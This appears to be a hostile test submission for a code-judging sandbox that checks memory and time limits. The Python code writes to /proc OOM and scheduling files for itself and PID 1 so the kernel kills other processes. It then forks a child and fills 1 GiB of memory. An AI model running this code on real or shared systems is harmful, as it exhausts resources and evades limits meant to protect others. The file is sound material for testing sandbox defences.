# id: R58b
# attack: writes to everything below /proc/self, so that the kernel kills somebody else for want of memory
# challenge: limits-one-answer
# expect: memory_limit_exceeded, time_limit_exceeded
import mmap
import os
import time


def answer(values):
    for name, text in (("oom_score_adj", "-1000"), ("oom_adj", "-17"), ("autogroup", "-20"), ("coredump_filter", "0xff"), ("clear_refs", "1")):
        for who in ("self", "1", "thread-self"):
            try:
                with open(f"/proc/{who}/{name}", "w") as file:
                    file.write(text)
            except OSError:
                pass
    if os.fork() == 0:
        time.sleep(1000)
    memory = mmap.mmap(-1, 2**30)
    for at in range(0, len(memory), 4096):
        memory[at] = 1
